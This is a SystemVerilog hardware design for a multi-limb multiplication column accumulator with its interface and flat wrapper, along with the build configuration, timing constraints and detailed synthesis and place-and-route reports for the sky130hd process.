## src/rtl/mul_column_accumulator_if.sv

```systemverilog
// Bundle between the multiplication controller/core and the column
// accumulator.
//   master : drives start/mulOn/outLoop/mulEnd, prod and rd_addr;
//            receives the limb stream, buffer read data and status.
//   slave  : the accumulator side.
// Signals:
//   start    one-cycle pulse, begins a new multiplication
//   mulOn    accumulate prod this cycle
//   outLoop  retire the low accumulator limb this cycle
//   mulEnd   retire the top limb, multiplication complete
//   prod     2*LIMB_W limb product
//   res_limb / res_valid / res_idx  retired limb stream
//   rd_addr / rd_data               result buffer read port (1-cycle latency)
//   res_done / err                  completion level, sticky error
interface mul_column_accumulator_if #(
  parameter int LIMB_W = 64
);
  logic                  start;
  logic                  mulOn;
  logic                  outLoop;
  logic                  mulEnd;
  logic [2*LIMB_W-1:0]   prod;
  logic [LIMB_W-1:0]     res_limb;
  logic                  res_valid;
  logic [2:0]            res_idx;
  logic [2:0]            rd_addr;
  logic [LIMB_W-1:0]     rd_data;
  logic                  res_done;
  logic                  err;

  modport master (
    output start, mulOn, outLoop, mulEnd, prod, rd_addr,
    input  res_limb, res_valid, res_idx, rd_data, res_done, err
  );

  modport slave (
    input  start, mulOn, outLoop, mulEnd, prod, rd_addr,
    output res_limb, res_valid, res_idx, rd_data, res_done, err
  );
endinterface

```

## src/rtl/mul_column_accumulator.sv

```systemverilog
// Column accumulator for a 4x4-limb multiplication. Sums the limb products
// of each output column, retires one result limb per outLoop (carrying the
// rest into the next column), retires the top limb on mulEnd and keeps all
// 8 limbs in a readable buffer.
// Ports:
//   clk  clock, all logic on posedge
//   rst  synchronous active-high reset
//   bus  mul_column_accumulator_if.slave (strobes, product, limb stream,
//        buffer read port, res_done, err)
module mul_column_accumulator #(
  parameter int LIMB_W = 64
) (
  input  logic                           clk,
  input  logic                           rst,
  mul_column_accumulator_if.slave        bus
);

  localparam int ACC_W = 2*LIMB_W + 3;

  typedef enum logic [1:0] {
    RUN  = 2'd0,
    DONE = 2'd1,
    ERR  = 2'd2
  } state_t;

  state_t              state;
  logic [ACC_W-1:0]    acc;
  logic [2:0]          idx;
  logic [LIMB_W-1:0]   buffer [8];

  // Protocol / overflow checks, only acted upon in RUN.
  logic multi_strobe;
  logic bad_outloop;
  logic bad_mulend;
  logic fault;

  assign multi_strobe = (bus.mulOn & bus.outLoop) | (bus.mulOn & bus.mulEnd) |
                        (bus.outLoop & bus.mulEnd);
  assign bad_outloop  = bus.outLoop & (idx == 3'd7);
  // Everything above the final limb must have been retired already,
  // otherwise the product does not fit in 8 limbs.
  assign bad_mulend   = bus.mulEnd & ((idx != 3'd7) || (acc[ACC_W-1:LIMB_W] != '0));
  assign fault        = multi_strobe | bad_outloop | bad_mulend;

  always_ff @(posedge clk) begin
    if (rst) begin
      state        <= RUN;
      acc          <= '0;
      idx          <= '0;
      bus.res_limb  <= '0;
      bus.res_valid <= 1'b0;
      bus.res_idx   <= '0;
      bus.rd_data   <= '0;
      bus.res_done  <= 1'b0;
      bus.err       <= 1'b0;
      // NOTE: the result buffer is built from flops rather than a RAM
      // because it must read back as zero after reset.
      for (int i = 0; i < 8; i++) buffer[i] <= '0;
    end else begin
      // NOTE: non-blocking assignments everywhere here, so the buffer read
      // below sees the pre-edge contents even when the same edge writes it.
      bus.res_valid <= 1'b0;
      bus.rd_data   <= buffer[bus.rd_addr];

      if (bus.start) begin
        // start wins over any strobe in the same cycle; buffer is kept.
        state        <= RUN;
        acc          <= '0;
        idx          <= '0;
        bus.res_done <= 1'b0;
        bus.err      <= 1'b0;
      end else if (state == RUN) begin
        if (fault) begin
          state   <= ERR;
          bus.err <= 1'b1;
        end else if (bus.mulOn) begin
          acc <= acc + {3'b000, bus.prod};
        end else if (bus.outLoop) begin
          buffer[idx]   <= acc[LIMB_W-1:0];
          bus.res_limb  <= acc[LIMB_W-1:0];
          bus.res_idx   <= idx;
          bus.res_valid <= 1'b1;
          acc           <= acc >> LIMB_W;
          idx           <= idx + 3'd1;
        end else if (bus.mulEnd) begin
          buffer[7]     <= acc[LIMB_W-1:0];
          bus.res_limb  <= acc[LIMB_W-1:0];
          bus.res_idx   <= 3'd7;
          bus.res_valid <= 1'b1;
          bus.res_done  <= 1'b1;
          state         <= DONE;
        end
      end
    end
  end

endmodule

```

## src/flat_wrapper.sv

```systemverilog
// flat-port wrapper written by rule: the top's interface ports become plain ports
module mul_column_accumulator_flat 
#(
  parameter int LIMB_W = 64
)
  (clk, rst, bus_start, bus_mulOn, bus_outLoop, bus_mulEnd, bus_prod, bus_rd_addr, bus_res_limb, bus_res_valid, bus_res_idx, bus_rd_data, bus_res_done, bus_err);
  mul_column_accumulator_if #(.LIMB_W(LIMB_W)) bus_i ();
  input  logic clk;
  input  logic rst;
  input wire logic [$bits(bus_i.start)-1:0] bus_start;
  input wire logic [$bits(bus_i.mulOn)-1:0] bus_mulOn;
  input wire logic [$bits(bus_i.outLoop)-1:0] bus_outLoop;
  input wire logic [$bits(bus_i.mulEnd)-1:0] bus_mulEnd;
  input wire logic [$bits(bus_i.prod)-1:0] bus_prod;
  input wire logic [$bits(bus_i.rd_addr)-1:0] bus_rd_addr;
  output wire logic [$bits(bus_i.res_limb)-1:0] bus_res_limb;
  output wire logic [$bits(bus_i.res_valid)-1:0] bus_res_valid;
  output wire logic [$bits(bus_i.res_idx)-1:0] bus_res_idx;
  output wire logic [$bits(bus_i.rd_data)-1:0] bus_rd_data;
  output wire logic [$bits(bus_i.res_done)-1:0] bus_res_done;
  output wire logic [$bits(bus_i.err)-1:0] bus_err;
  assign bus_i.start = bus_start;
  assign bus_i.mulOn = bus_mulOn;
  assign bus_i.outLoop = bus_outLoop;
  assign bus_i.mulEnd = bus_mulEnd;
  assign bus_i.prod = bus_prod;
  assign bus_i.rd_addr = bus_rd_addr;
  assign bus_res_limb = bus_i.res_limb;
  assign bus_res_valid = bus_i.res_valid;
  assign bus_res_idx = bus_i.res_idx;
  assign bus_rd_data = bus_i.rd_data;
  assign bus_res_done = bus_i.res_done;
  assign bus_err = bus_i.err;
  mul_column_accumulator #(.LIMB_W(LIMB_W)) u_core (.clk(clk), .rst(rst), .bus(bus_i));
endmodule
```

## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = mul_column_accumulator_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/mul_column_accumulator_if.sv /design/src/rtl/mul_column_accumulator.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CORE_MARGIN = 1
export CORE_UTILIZATION = 55
export CTS_CLUSTER_SIZE = 28
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY = 0.85
export SLEW_MARGIN = 40
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```

## constraint.sdc

```tcl
create_clock -name clk -period 9.7 [get_ports clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 1.455 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.455 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
```

-- Word level (Yosys, flattened, before mapping)
Memories as Yosys holds them, arrays and structs flattened. A register that Yosys moved wholly into a read port is not among the register bits.
Cells that the tools add are included.
- flip-flop bits (word level): 206
- memories: 1
- bits in writable memories: 512
- output and inout port bits: 134
- word-level logic and storage cells: 77
- reductions and logical operators: 15
- add/sub/neg operators: 2
- equal/unequal tests: 4
- multiplexer cells: 32
- bitwise operators: 15
- memories (memory ; words ; width ; read ports ; clocked after Yosys merged registers in ; write ports ; line ; text):
    u_core.buffer ; 8 ; 64 ; 1 ; 1 ; 8 ; mul_column_accumulator.sv:29 ; logic [LIMB_W-1:0] buffer [8];
- operator list (cell ; number):
    131-bit two-way mux ; 2
    64-bit two-way mux ; 4
    131-bit by 128-bit adder with 131-bit output ; 1
    67-bit nonzero test ; 1
    64-bit OR reduction ; 1
    1-bit two-way mux ; 19
    5-bit AND reduction ; 2
    3-bit two-way mux ; 3
    2-bit two-way mux ; 4
    4-bit AND reduction ; 2
    2-bit nonzero test ; 3
    1-bit bitwise AND ; 5
    1-bit inverter ; 5
    1-bit OR ; 5
    5-bit OR reduction ; 1
    2-bit by 1-bit != test with 1-bit output (second input constant) ; 2
    3-bit by 1-bit adder with 3-bit output (second input constant) ; 1
    3-bit == test (second input constant) ; 1
    3-bit != test (second input constant) ; 1
    3-bit AND reduction ; 1
    2-bit zero test ; 1
    2-bit AND reduction ; 1
    2-bit OR reduction ; 1
    1-bit logical OR ; 1

-- Longest topological paths before layout
- depth in word-level cells: 12
- depth in mapped cells: 19
- mapped depth without buffers: 19

-- Least setup slack after synthesis
Ideal clock, no wire load.
- path kind: input-to-reg
- start point: in bus_mulOn
- end point: mem u_core.buffer[7][0] (enable)
- cell stages on the path: 8
- library setup time: 503 ps
- arrival: 5246 ps
- path buffers: 1
- slack: 3800 ps
- cells stage by stage: buf_2 nor2_1 nand2_1 nor2_1 nand3_1 nand2_1 nand2_1 o211ai_1
- RTL lines (element ; line ; text):
    start: declaration ; flat_wrapper.sv:11 ; input wire logic [$bits(bus_i.mulOn)-1:0] bus_mulOn;
    end: declaration ; mul_column_accumulator.sv:29 ;

==> results.sh <==
export IMPL_finalCoreUtilization_pct=63.2
export IMPL_port_buffers=270
export IMPL_synth_area_leaders="edfxtp_1 (34%), nand2_1 (15%), dfxtp_1 (12%), nor2_1 (11%), inv_1 (8.4%)"
export IMPL_clk_pin_slew_ns=0.06
export IMPL_die_area_sq_um=84200
export IMPL_cts_tree="built"
export IMPL_period_share_pct=49.2
export IMPL_syn_inst=6529
export IMPL_post_cts_resized=0
export IMPL_cts_made_buffers=81
export IMPL_synth_seq_area_share_pct=45.5
export IMPL_critPathRequiredTime_ns=9.81
export IMPL_gp_congestion=1.17
export IMPL_antenna_found_initial=10
export IMPL_place_ws_ns=4.22
export IMPL_ys_warn_count=0
export IMPL_fin_area_sq_um=51900
export IMPL_drc=0
export IMPL_maxCapViolations=0
export IMPL_routed_wl_um=182000
export IMPL_syn_num_nets=6797
export IMPL_synthTopCellsByCount="nand2_1 (1836), nor2_1 (1360), inv_1 (1022)"
export IMPL_hold_viol=0
export IMPL_critPathLaunchType="input pin"
export IMPL_grt_max_degree=209
export IMPL_setup_viol=0
export IMPL_start_util_pct=55.6
export IMPL_vias=44743
export IMPL_cts_hold_buffers=0
export IMPL_crit_family="simple AND/OR/NAND/NOR gates"
export IMPL_ioPinCount=271
export IMPL_max_vdd_ir_drop_mv=0.111
export IMPL_yosys_area_top_type="edfxtp_1"
export IMPL_yosysMostFrequentCell="nand2_1"
export IMPL_grt_pass1_vias=42225
export IMPL_synth_top_area_share_pct=33.7
export IMPL_max_freq_mhz=210
export IMPL_cp_end_kind="flop"
export IMPL_max_slew_margin_pct=40.9
export IMPL_grt_pass1_wl_um=261000
export IMPL_nets=6954
export IMPL_drt_iter0_markers=5718
export IMPL_finalMaxSlewViolations=0
export IMPL_die_height_um=290
export IMPL_cts_root_buf="clkbuf_16"
export IMPL_post_drt_wl_per_cell_um=23.2
export IMPL_tightest_slew_ns=0.887
export IMPL_crit_chain="clkdlybuf4s50_1 -> nand4_1 -> nor2_4 -> nand2_1 -> nor2_2 -> nand2_2 -> buf_4 -> nand2_2 -> buf_4"
export IMPL_power_density_nw_per_um2=155
export IMPL_rows=105
export IMPL_synth_seq_cells=782
export IMPL_max_stage_delay_ns=0.65
export IMPL_cts_sinks=782
export IMPL_core_area_sq_um=82100
export IMPL_synth_cell_types=41
export IMPL_synthArstFlopShare_pct=0
export IMPL_hpwl_um=133000
export IMPL_clk_latency_ns=0.67
export IMPL_drive_above_1_share_pct=3.15
export IMPL_post_route_min_period_ns=4.77
export IMPL_grt_overflow=0
export IMPL_path_class="input pin to flop"
export IMPL_avgSynthCellArea_sq_um=7.00
export IMPL_drtPass1Iterations=9
export IMPL_fin_ws_ns=4.93
export IMPL_track_usage_pct=41.9
export IMPL_h_tree_depth=3
export IMPL_hp_class="flop to flop"
export IMPL_synth_area_sq_um=45700
export IMPL_die_w_um=290
export IMPL_cts_path_max_buffers=3
export IMPL_synth_edff_count=512
export IMPL_whs_ns=0.313
export IMPL_crit_fanout=65
export IMPL_path_buf_inv=3
export IMPL_vias_per_cell=5.72
export IMPL_area_growth_pct=13.6
export IMPL_status="complete, no violations"
export IMPL_dpl_cell_area_sq_um=49100
export IMPL_rsz0062_at_grt="false"
export IMPL_worst_path_max_delay_cell="nand2_2"
export IMPL_p_leak_nw=23.6
export IMPL_synth_main_ff_cell="edfxtp_1"
export IMPL_arrival_ns=4.88
export IMPL_ant_nets=0
export IMPL_tns_ns=0
export IMPL_cts_setup_buffers=0
## tightest hold or removal path: stages, from the launching register on
cell and delay, ns:
dfxtp_1 0.31, inv_1 0.05, a21oi_1 0.05
## through the flow
step | power, mW | cells
after detailed placement | 4.82 | 7671
after CTS | 7.98 | 7822
after global routing | 8.21 | 7825
final | 8.02 | 7825
after floorplan | 4.42 | 6529
after global placement | 4.80 | 7669
## worst paths after layout
check | depth (start not counted) | slack [ns] | to | start
max | 9 | 4.93 | u_core.buffer[4][11] | bus_outLoop
min | 2 | 0.31 | u_core.bus.res_done | u_core.bus.res_done
max reg2reg | 10 | 5.45 | u_core.bus.res_idx[2] | u_core.acc[128]
min reg2reg | 2 | 0.31 | u_core.bus.res_done | u_core.bus.res_done
## kinds of logic (layout without fill, tap and decap cells)
group           after synthesis  after routing  synth area share [%]
buf+inv                    1270           1495                  10.8
flops                       782            782                  45.5
fa+ha+maj                   131            131                  3.60
xor+xnor                     56             56                  1.07
compound gates              810            810                  9.34
other cells                   0              1                     0
simple gates               3480           3480                  29.7
## cells in the final DEF (no fill, tap or decap), types with 18 or more instances in the layout
cell type	n
clkbuf_1	21
o21ai_0	390
nand3_1	168
a31oi_1	74
buf_4	23
nand3b_1	23
nor4_1	22
o22ai_1	65
clkbuf_16	82
ha_1	130
inv_1	1018
nor2_1	1359
xor2_1	50
nand2_1	1822
clkdlybuf4s50_1	267
edfxtp_1	512
nand2_2	19
dfxtp_1	270
a21oi_1	264
nor3_1	32
clkinv_1	18
## metal layers
layer / global-route usage (%) / share of wire, % / up-vias
met3: 7.57 / 10 / 660
met4: 31.3 / 8.8 / 4
met1: 48.7 / 34 / 20466
met5: 0 / 0.012 / -
li1: - / - / 20744
met2: 69.5 / 46 / 2869
## layout make-up
| class | instances | area [sq um] |
|---|---|---|
| diodes | 1 | 2.50 |
| flip-flops and latches | 782 | 20800 |
| repair buffers | 309 | 3100 |
| clock buffers | 111 | 2240 |
| multi-input cells | 4477 | 20100 |
| clock inverters | 40 | 474 |
| inverters | 1035 | 3910 |
| fillers | 7164 | 30200 |
| well taps | 1070 | 1340 |
## state kept, by name, summed over array words and instances (netlist names)
register,cells
u_core.acc,131
u_core.buffer,512
u_core.bus.err,1
u_core.bus.rd_data,64
u_core.bus.res_done,1
u_core.bus.res_idx,3
u_core.bus.res_limb,64
u_core.bus.res_valid,1
u_core.idx,3
u_core.state,2
## report_power, final
| group | switching (mW) | total, mW | leakage [nW] | internal [mW] |
|---|---|---|---|---|
| clock network | 1.41 | 3.23 | 1.32 | 1.82 |
| registers | 0.0669 | 3.73 | 7.49 | 3.66 |
| logic | 0.757 | 1.06 | 14.7 | 0.306 |
| total | 2.23 | 8.02 | 23.6 | 5.79 |
Power figures use the tool's default switching activity.
